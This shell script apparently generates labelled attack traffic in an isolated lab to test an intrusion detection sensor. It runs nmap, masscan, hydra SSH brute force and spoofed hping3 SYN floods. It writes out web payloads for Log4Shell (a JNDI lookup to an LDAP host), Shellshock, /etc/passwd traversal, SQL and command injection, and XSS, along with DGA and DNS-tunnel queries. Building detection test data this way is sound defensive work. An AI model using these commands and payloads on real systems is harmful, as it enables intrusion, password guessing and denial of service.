# scenarios.sh: the scenarios of make-corpus.sh, sourced by it.
#
# Each scenario NAME has two functions: scenario_NAME runs the tools while
# the router captures, and measure_NAME reads the capture back (tshark) and
# records facts (fact NAME KEY VALUE) from which truth.py writes the ground
# truth. A measurement that contradicts what the tool was asked to do stops
# the run: the truth must describe the capture.
#
# Every command is bounded by `timeout`, and every destination is a lab
# address defined in make-corpus.sh.

BROWSER_UA="Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"

# curl from a namespace, bounded, output discarded.
lab_curl() {
    local ns=$1; shift
    in_ns "$ns" timeout 10 curl -s -o /dev/null --max-time 5 "$@" >/dev/null
}

# Counts the TCP connections to PORT from SRC that carried client data.
connections_with_data() {
    count_distinct "ip.src==$1 && tcp.dstport==$2 && tcp.len>0" tcp.stream
}

# --- 1. nmap SYN scan ----------------------------------------------------------

scenario_nmap_syn() {
    in_ns "$NS_ATT" timeout 120 nmap -sS -Pn -n --top-ports 1000 --max-retries 1 \
        --host-timeout 90s -T4 "$VIC_IP" >"$WORK/nmap_syn.txt"
}

measure_nmap_syn() {
    local ports
    ports=$(count_distinct "$SYN_FROM_ATT" tcp.dstport)
    expect_equal "nmap_syn: distinct ports probed" "$ports" 1000
    fact nmap_syn ports "$ports"
    fact nmap_syn syn_packets "$(count_packets "$SYN_FROM_ATT")"
    fact nmap_syn command "nmap -sS -Pn -n --top-ports 1000 --max-retries 1 -T4 $VIC_IP"
}

# --- 2. nmap version detection -----------------------------------------------

scenario_nmap_version() {
    in_ns "$NS_ATT" timeout 120 nmap -sV -Pn -n --top-ports 100 --max-retries 1 \
        --host-timeout 90s -T4 "$VIC_IP" >"$WORK/nmap_version.txt"
}

measure_nmap_version() {
    local ports requests
    ports=$(count_distinct "$SYN_FROM_ATT" tcp.dstport)
    expect_equal "nmap_version: distinct ports probed" "$ports" 100
    fact nmap_version ports "$ports"
    fact nmap_version ssh_connections_with_data "$(connections_with_data "$ATT_IP" 22)"
    # Version detection talks to the open ports: keep what it sent to the
    # web server, to judge the web signatures it may trigger.
    requests=$(tshark -r "$CAPTURE_FILE" -Y "ip.src==$ATT_IP && tcp.dstport==80 && tcp.len>0" \
        -T fields -e tcp.payload 2>/dev/null | python3 -c '
import sys
for line in sys.stdin:
    line = line.strip()
    if line:
        first = bytes.fromhex(line.split(",")[0].replace(":", "")).split(b"\r\n")[0]
        print(first.decode("latin-1"))')
    fact nmap_version http_payloads "$(grep -c . <<<"$requests" || true)"
    # Its http scripts announce themselves in their User-Agent.
    fact nmap_version nse_requests "$(count_packets "ip.src==$ATT_IP && http.user_agent contains \"Nmap Scripting Engine\"")"
    fact nmap_version http_first_lines "$(paste -sd '|' <<<"$requests")"
    fact nmap_version services "$(grep -E '^[0-9]+/tcp +open' "$WORK/nmap_version.txt" | tr -s ' ' | paste -sd '|')"
    fact nmap_version command "nmap -sV -Pn -n --top-ports 100 --max-retries 1 -T4 $VIC_IP"
}

# --- 3. masscan ------------------------------------------------------------------

scenario_masscan() {
    local router_mac rc=0
    router_mac=$(in_ns "$NS_RTR" cat /sys/class/net/to-att/address)
    # masscan has its own TCP/IP stack: it needs the interface, its address
    # and the gateway's MAC, since it bypasses the kernel's routing and ARP.
    # masscan 1.3.2 often hangs in its receive thread once the scan is over
    # (2000 ports at 500/s: 4 s, then --wait): it is stopped after 15 s,
    # which is fine as long as it reported the scan complete.
    in_ns "$NS_ATT" timeout -k 2 15 masscan "$VIC_IP" -p1-2000 --rate 500 \
        --retries 0 --wait 2 --adapter eth0 --adapter-ip "$ATT_IP" --router-mac "$router_mac" \
        >"$WORK/masscan.txt" 2>"$WORK/masscan.err" || rc=$?
    if [[ $rc -ne 0 ]] && ! tr '\r' '\n' <"$WORK/masscan.err" | grep -q '100.00% done'; then
        die "masscan failed (exit $rc): $(tail -c 300 "$WORK/masscan.err")"
    fi
}

measure_masscan() {
    local ports
    ports=$(count_distinct "$SYN_FROM_ATT" tcp.dstport)
    expect_equal "masscan: distinct ports probed" "$ports" 2000
    fact masscan ports "$ports"
    fact masscan syn_packets "$(count_packets "$SYN_FROM_ATT")"
    fact masscan open_ports "$(grep -c '^Discovered open port' "$WORK/masscan.txt" || true)"
    fact masscan command "masscan $VIC_IP -p1-2000 --rate 500 --retries 0"
}

# --- 4. hydra against SSH ---------------------------------------------------------

scenario_hydra_ssh() {
    SSHD_LOG_BEFORE=$(wc -l <"$WORK/sshd.log")
    cp "$HERE/passwords.txt" "$WORK/hydra-passwords.txt"
    printf '%s\n' "$SSH_PASSWORD" >>"$WORK/hydra-passwords.txt"
    local rc=0
    in_ns "$NS_ATT" timeout 180 hydra -I -w 4 -l "$SSH_USER" -P "$WORK/hydra-passwords.txt" \
        -t 4 -o "$WORK/hydra.found" "ssh://$VIC_IP" >"$WORK/hydra.log" 2>&1 || rc=$?
    # hydra exits non-zero when one of its workers lost a connection, even
    # after it found the password (seen in CI: "1 valid password found",
    # then "1 target did not resolve or could not be connected"). The truth
    # is read from the server's log and the capture, not from hydra's exit
    # code, so only a run that did not find the password is a failure.
    if ((rc != 0)); then
        grep -q ' 1 valid password found' "$WORK/hydra.log" ||
            die "hydra failed (exit $rc): $(tail -5 "$WORK/hydra.log")"
        log "  hydra exited $rc after finding the password (a worker lost its connection); kept"
    fi
}

measure_hydra_ssh() {
    local tries found conns synacks
    tries=$(sed -n 's/.* \([0-9]*\) login tr\(y\|ies\) .*/\1/p' "$WORK/hydra.log" | head -1)
    found=$(sed -n 's/.* \([0-9]*\) valid password\(s\)\{0,1\} found.*/\1/p' "$WORK/hydra.log" | head -1)
    [[ -n "$tries" ]] || die "hydra_ssh: no attempt count in hydra's output: $(cat "$WORK/hydra.log")"
    expect_equal "hydra_ssh: passwords found" "${found:-0}" 1
    conns=$(connections_with_data "$ATT_IP" 22)
    synacks=$(count_packets "ip.src==$VIC_IP && tcp.srcport==22 && tcp.flags.syn==1 && tcp.flags.ack==1")
    fact hydra_ssh tool_attempts "$tries"
    fact hydra_ssh connections_with_data "$conns"
    fact hydra_ssh established "$synacks"
    fact hydra_ssh passwords_found "$found"
    # What the server saw: hydra loses the guess that sshd answers by
    # closing the connection (MaxAuthTries) and tries it again.
    # sshd -e ends its lines with CR LF.
    tail -n +"$((SSHD_LOG_BEFORE + 1))" "$WORK/sshd.log" | tr -d '\r' |
        grep -E '(Failed|Accepted) password for' >"$WORK/hydra-checks.txt" || true
    fact hydra_ssh server_password_checks "$(grep -c . "$WORK/hydra-checks.txt" || true)"
    fact hydra_ssh connections_with_password "$(sed -n 's/.* port \([0-9]*\) ssh2$/\1/p' \
        "$WORK/hydra-checks.txt" | sort -u | grep -c . || true)"
    fact hydra_ssh command "hydra -l $SSH_USER -P passwords.txt(+1 right) -t 4 ssh://$VIC_IP"
}

# --- 5. web exploits ----------------------------------------------------------------

# web SIGNATURES CURL-ARGS...: one exploit request, and the ids of the
# signatures (crates/vigie-sensor/data/signatures.toml) of every attack it
# carries, comma-separated; truth.py decides which one it is filed under.
web() {
    local sigs=$1; shift
    lab_curl "$NS_ATT" "$@"
    echo "$sigs" >>"$WORK/web_requests.txt"
    WEB_REQUESTS=$((WEB_REQUESTS + 1))
}

scenario_web_exploits() {
    # shellcheck disable=SC2016 # the payload is literal text
    local v=http://$VIC_IP jndi='${jndi:ldap://10.66.1.2:1389/a}'
    WEB_REQUESTS=0
    : >"$WORK/web_requests.txt"
    # Log4Shell (CVE-2021-44228), as mass scanners send it.
    web web.log4shell -A "$jndi" "$v/"
    web web.log4shell -A "$BROWSER_UA" -H "X-Api-Version: $jndi" "$v/"
    web web.log4shell -A "$BROWSER_UA" "$v/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.66.1.2%3A1389%2Fa%7D"
    # Shellshock (CVE-2014-6271); the first two also carry a shell command.
    web web.shellshock,web.command_injection -A "() { :; }; /bin/bash -c 'id'" "$v/cgi-bin/status"
    web web.shellshock,web.command_injection -A "$BROWSER_UA" \
        -H "Referer: () { :; }; /bin/bash -c 'uname -a'" "$v/cgi-bin/test.cgi"
    web web.shellshock -A "() { :;}; echo; /usr/bin/id" "$v/"
    # Path traversal, plain and percent-encoded; reading /etc/passwd is also
    # a system-file read.
    web web.path_traversal,web.system_file -A "$BROWSER_UA" --path-as-is "$v/../../../../etc/passwd"
    web web.path_traversal,web.system_file -A "$BROWSER_UA" "$v/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
    web web.path_traversal -A "$BROWSER_UA" "$v/download?file=..%2f..%2f..%2f..%2fvar%2fwww%2fconfig.ini"
    # SQL injection, as a hand or sqlmap would encode it.
    web web.sqli_tautology -A "$BROWSER_UA" "$v/article?id=1'%20OR%20'1'='1"
    web web.sqli_tautology -A "$BROWSER_UA" "$v/article?id=1%27%20OR%20%271%27%3D%271"
    web web.sqli_union -A "$BROWSER_UA" "$v/article?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
    web web.sqli_union -A "$BROWSER_UA" "$v/search?q=x%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-"
    # Command injection.
    web web.command_injection,web.system_file -A "$BROWSER_UA" "$v/ping?host=127.0.0.1;cat%20/etc/passwd"
    web web.command_injection -A "$BROWSER_UA" "$v/ping?host=127.0.0.1%24%28id%29"
    web web.command_injection -A "$BROWSER_UA" "$v/cgi-bin/ping?ip=127.0.0.1%7Cuname%20-a"
    # Cross-site scripting.
    web web.xss -A "$BROWSER_UA" "$v/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    web web.xss -A "$BROWSER_UA" "$v/search?q=<script>alert(1)</script>"
    web web.xss -A "$BROWSER_UA" "$v/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
    # Probing for secrets and source code left on the server.
    web web.secret_file -A "$BROWSER_UA" "$v/.env"
    web web.source_repository -A "$BROWSER_UA" "$v/.git/config"
    web web.secret_file -A "$BROWSER_UA" "$v/wp-config.php"
    # Looking for a webshell left by an earlier intrusion.
    web web.webshell -A "$BROWSER_UA" "$v/c99.php"
    web web.webshell -A "$BROWSER_UA" "$v/r57.php"
    web web.webshell -A "$BROWSER_UA" "$v/uploads/wso.php"
}

measure_web_exploits() {
    local seen sig n
    seen=$(count_packets "ip.src==$ATT_IP && http.request")
    expect_equal "web_exploits: requests in the capture" "$seen" "$WEB_REQUESTS"
    fact web_exploits requests "$WEB_REQUESTS"
    n=0
    while read -r sig; do
        n=$((n + 1))
        fact web_exploits "request.$(printf %02d "$n")" "$sig"
    done <"$WORK/web_requests.txt"
}

# --- 6. web login brute force ---------------------------------------------------------

scenario_web_login_bruteforce() {
    local pw
    head -n 30 "$HERE/passwords.txt" | while read -r pw; do
        lab_curl "$NS_ATT" -A "$BROWSER_UA" --data-urlencode "log=$SSH_USER" \
            --data-urlencode "pwd=$pw" --data "wp-submit=Log+In&testcookie=1" \
            "http://$VIC_IP/wp-login.php"
    done
}

measure_web_login_bruteforce() {
    local posts
    posts=$(count_packets "ip.src==$ATT_IP && http.request.method==\"POST\"")
    expect_equal "web_login_bruteforce: POSTs" "$posts" 30
    fact web_login_bruteforce posts "$posts"
}

# --- 7. ping sweep --------------------------------------------------------------------

scenario_ping_sweep() {
    in_ns "$NS_ATT" timeout 60 nmap -sn -PE -n --max-retries 1 --host-timeout 20s \
        "$RTR_LAN_IP/24" >"$WORK/ping_sweep.txt"
}

measure_ping_sweep() {
    local hosts up
    hosts=$(count_distinct "ip.src==$ATT_IP && icmp.type==8" ip.dst)
    expect_equal "ping_sweep: distinct addresses probed" "$hosts" 256
    up=$(sed -n 's/.*(\([0-9]*\) hosts\{0,1\} up).*/\1/p' "$WORK/ping_sweep.txt")
    fact ping_sweep hosts "$hosts"
    fact ping_sweep echo_requests "$(count_packets "ip.src==$ATT_IP && icmp.type==8")"
    fact ping_sweep hosts_up "$up"
    fact ping_sweep command "nmap -sn -PE -n --max-retries 1 $HOME_NET"
}

# --- 8. SYN burst -----------------------------------------------------------------------

scenario_syn_burst() {
    # A spoofed source that no machine holds: the victim's SYN-ACKs die at
    # the router (no ARP answer), as in a real spoofed flood, and no kernel
    # answers them with resets.
    in_ns "$NS_ATT" timeout 30 hping3 -n -S -p 80 -a "$SPOOF_IP" -i u100 -c "$SYN_BURST_COUNT" \
        "$VIC_IP" >"$WORK/hping3.txt" 2>&1 || true
}

measure_syn_burst() {
    local sent syns
    sent=$(sed -n 's/^\([0-9]*\) packets transmitted.*/\1/p' "$WORK/hping3.txt")
    syns=$(count_packets "ip.src==$SPOOF_IP && ip.dst==$VIC_IP && tcp.dstport==80 && tcp.flags.syn==1 && tcp.flags.ack==0")
    expect_equal "syn_burst: SYNs in the capture" "$syns" "$sent"
    fact syn_burst syn_packets "$syns"
    fact syn_burst duration_s "$(tshark -r "$CAPTURE_FILE" -Y "ip.src==$SPOOF_IP" -T fields -e frame.time_epoch 2>/dev/null |
        sed -n '1p;$p' | paste -sd ' ' | awk '{printf "%.2f", $2 - $1}')"
    fact syn_burst command "hping3 -n -S -p 80 -a $SPOOF_IP -i u100 -c $SYN_BURST_COUNT $VIC_IP"
}

# --- 8b. low-rate SYN flood (issue 16) ---------------------------------------------

scenario_low_rate_flood() {
    # A town hall's scale: ~300 SYN/s at the web server for ~5 s, from the
    # attacker's own address. The victim answers each with a SYN-ACK, the
    # attacker's kernel (which opened no connection) with a reset: every
    # connection stays half-open, as under a real SYN flood.
    in_ns "$NS_ATT" timeout 30 hping3 -n -S -p 80 -i u3333 -c "$LOW_FLOOD_COUNT" \
        "$VIC_IP" >"$WORK/hping3-low.txt" 2>&1 || true
}

measure_low_rate_flood() {
    local sent syns completed
    sent=$(sed -n 's/^\([0-9]*\) packets transmitted.*/\1/p' "$WORK/hping3-low.txt")
    syns=$(count_packets "$SYN_FROM_ATT && tcp.dstport==80")
    completed=$(count_packets "ip.src==$ATT_IP && tcp.dstport==80 && tcp.flags.ack==1 && tcp.flags.syn==0 && tcp.flags.reset==0")
    expect_equal "low_rate_flood: SYNs in the capture" "$syns" "$sent"
    expect_equal "low_rate_flood: handshakes completed" "$completed" 0
    fact low_rate_flood syn_packets "$syns"
    fact low_rate_flood duration_s "$(tshark -r "$CAPTURE_FILE" -Y "$SYN_FROM_ATT" -T fields -e frame.time_epoch 2>/dev/null |
        sed -n '1p;$p' | paste -sd ' ' | awk '{printf "%.2f", $2 - $1}')"
    fact low_rate_flood command "hping3 -n -S -p 80 -i u3333 -c $LOW_FLOOD_COUNT $VIC_IP"
}

# --- 8c. a busy day at the town-hall site (issue 16) ---------------------------------

scenario_busy_site() {
    # A crowd behind one address (a school's or a company's NAT) loads the
    # home page at about the low-rate flood's pace, each visit on its own
    # connection: as many SYN a second, every handshake completed.
    # (A file, not a here-document: in_ns runs it in the background, whose
    # standard input is /dev/null.)
    cat >"$WORK/visits.py" <<'PYEOF'
import socket, sys, time
src, dst, visits = sys.argv[1], sys.argv[2], int(sys.argv[3])
start = time.monotonic()
for i in range(visits):
    # ~300 visits a second.
    delay = start + i / 300 - time.monotonic()
    if delay > 0:
        time.sleep(delay)
    s = socket.create_connection((dst, 80), timeout=5, source_address=(src, 0))
    s.sendall(b"GET / HTTP/1.1\r\nHost: mairie.vigie-lab.test\r\nConnection: close\r\n\r\n")
    while s.recv(4096):
        pass
    s.close()
PYEOF
    in_ns "$NS_ATT" timeout 30 python3 "$WORK/visits.py" "$USER_IP" "$VIC_IP" "$BUSY_VISITS" ||
        die "busy_site: the visits failed"
}

measure_busy_site() {
    local syns
    syns=$(count_packets "ip.src==$USER_IP && tcp.dstport==80 && tcp.flags.syn==1 && tcp.flags.ack==0")
    expect_equal "busy_site: connections" "$syns" "$BUSY_VISITS"
    fact busy_site syn_packets "$syns"
    fact busy_site requests "$(count_packets "ip.src==$USER_IP && http.request")"
    fact busy_site duration_s "$(tshark -r "$CAPTURE_FILE" -Y "ip.src==$USER_IP && tcp.flags.syn==1" -T fields -e frame.time_epoch 2>/dev/null |
        sed -n '1p;$p' | paste -sd ' ' | awk '{printf "%.2f", $2 - $1}')"
}

# --- 9. reputation ------------------------------------------------------------------------

scenario_reputation() {
    # A town-hall machine calls its botnet's C2, by address...
    lab_curl "$NS_VIC" -A "Mozilla/4.0 (compatible; MSIE 8.0)" "http://$C2_IP/"
    sleep 0.2
    # ...and resolves its C2 name.
    in_ns "$NS_VIC" timeout 5 dig @"$RESOLVER_IP" +tries=1 +time=1 c2.vigie-lab.test A >/dev/null || true
    sleep 0.2
    # A listed attacker knocks on the town-hall site.
    lab_curl "$NS_ATT" --interface "$KNOWN_IP" -A "$BROWSER_UA" "http://$VIC_IP/"
}

measure_reputation() {
    local c2 dns known
    c2=$(count_distinct "ip.src==$VIC_IP && ip.dst==$C2_IP && tcp.flags.syn==1" tcp.stream)
    dns=$(count_packets "ip.src==$VIC_IP && dns.flags.response==0 && dns.qry.name==\"c2.vigie-lab.test\"")
    known=$(count_distinct "ip.src==$KNOWN_IP && ip.dst==$VIC_IP && tcp.flags.syn==1" tcp.stream)
    expect_equal "reputation: connections to the C2 address" "$c2" 1
    expect_equal "reputation: queries for the C2 name" "$dns" 1
    expect_equal "reputation: connections from the listed attacker" "$known" 1
    fact reputation c2_connections "$c2"
    fact reputation c2_queries "$dns"
    fact reputation known_attacker_connections "$known"
}

# --- 10. suspicious DNS -----------------------------------------------------------------

scenario_suspicious_dns() {
    # Names from a seeded generator, so that every run queries the same
    # names and a detector's verdict on them is reproducible.
    python3 - "$WORK" <<'EOF'
import random, sys
rng = random.Random(20260101)
letters = "abcdefghijklmnopqrstuvwxyz"
base32 = "abcdefghijklmnopqrstuvwxyz234567"
with open(sys.argv[1] + "/dga.txt", "w") as f:
    for _ in range(40):
        n = rng.randint(16, 24)
        f.write("".join(rng.choice(letters) for _ in range(n)) + ".com\n")
with open(sys.argv[1] + "/tunnel.txt", "w") as f:
    for i in range(40):
        n = rng.randint(50, 63)
        f.write("".join(rng.choice(base32) for _ in range(n)) + ".t.vigie-lab.test\n")
EOF
    # A few per second, as malware trying its rendezvous names would.
    local name
    while read -r name; do
        in_ns "$NS_VIC" timeout 5 dig @"$RESOLVER_IP" +tries=1 +time=1 "$name" A >/dev/null || true
        sleep 0.1
    done <"$WORK/dga.txt"
    while read -r name; do
        in_ns "$NS_VIC" timeout 5 dig @"$RESOLVER_IP" +tries=1 +time=1 "$name" TXT >/dev/null || true
        sleep 0.1
    done <"$WORK/tunnel.txt"
}

measure_suspicious_dns() {
    local dga tunnel
    dga=$(count_distinct "ip.src==$VIC_IP && dns.flags.response==0 && dns.qry.name matches \"^[a-z]+\\\\.com\$\"" dns.qry.name)
    tunnel=$(count_packets "ip.src==$VIC_IP && dns.flags.response==0 && dns.qry.type==16 && dns.qry.name contains \".t.vigie-lab.test\"")
    expect_equal "suspicious_dns: DGA names queried" "$dga" 40
    expect_equal "suspicious_dns: tunnelling queries" "$tunnel" 40
    fact suspicious_dns dga_queries "$dga"
    fact suspicious_dns tunnel_queries "$tunnel"
    fact suspicious_dns dga_names "$(paste -sd '|' "$WORK/dga.txt")"
    fact suspicious_dns tunnel_labels "$(cut -d. -f1 "$WORK/tunnel.txt" | paste -sd '|')"
}

# --- 11. benign ---------------------------------------------------------------------------

scenario_benign() {
    local v=http://$VIC_IP b=(-A "$BROWSER_UA" -H "Accept-Language: fr-FR,fr;q=0.9" --interface "$USER_IP")
    # A visitor loads the home page and its resources on one connection,
    # then another page, then signs in to the agents' area.
    lab_curl "$NS_ATT" "${b[@]}" -H "Accept: text/html" "$v/" "$v/style.css" "$v/logo.png"
    sleep 0.3
    lab_curl "$NS_ATT" "${b[@]}" -e "$v/" "$v/actualites.html"
    lab_curl "$NS_ATT" "${b[@]}" -e "$v/" "$v/login"
    lab_curl "$NS_ATT" "${b[@]}" -e "$v/login" --data-urlencode "user=$SSH_USER" \
        --data-urlencode "password=$MARKER-web" "$v/login"
    # The town hall's IT contractor logs in over SSH and runs a command.
    in_ns "$NS_ATT" timeout 20 sshpass -p "$SSH_PASSWORD" ssh -F /dev/null -b "$USER_IP" \
        -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=5 \
        "$SSH_USER@$VIC_IP" 'uname -s; uptime' >"$WORK/benign-ssh.txt" ||
        die "benign: the SSH login failed"
    # A town-hall machine resolves ordinary names and visits a site.
    local name
    for name in www.example.org www.service-public.fr example.org; do
        in_ns "$NS_VIC" timeout 5 dig @"$RESOLVER_IP" +tries=1 +time=1 "$name" A >/dev/null || true
    done
    lab_curl "$NS_VIC" -A "$BROWSER_UA" -H "Host: www.example.org" "http://$MIRROR_IP/"
}

measure_benign() {
    local requests ssh
    requests=$(count_packets "http.request")
    ssh=$(connections_with_data "$USER_IP" 22)
    expect_equal "benign: SSH connections" "$ssh" 1
    grep -q '^Linux' "$WORK/benign-ssh.txt" || die "benign: the SSH command did not run"
    fact benign http_requests "$requests"
    fact benign ssh_connections "$ssh"
    fact benign dns_queries "$(count_packets "dns.flags.response==0")"
}
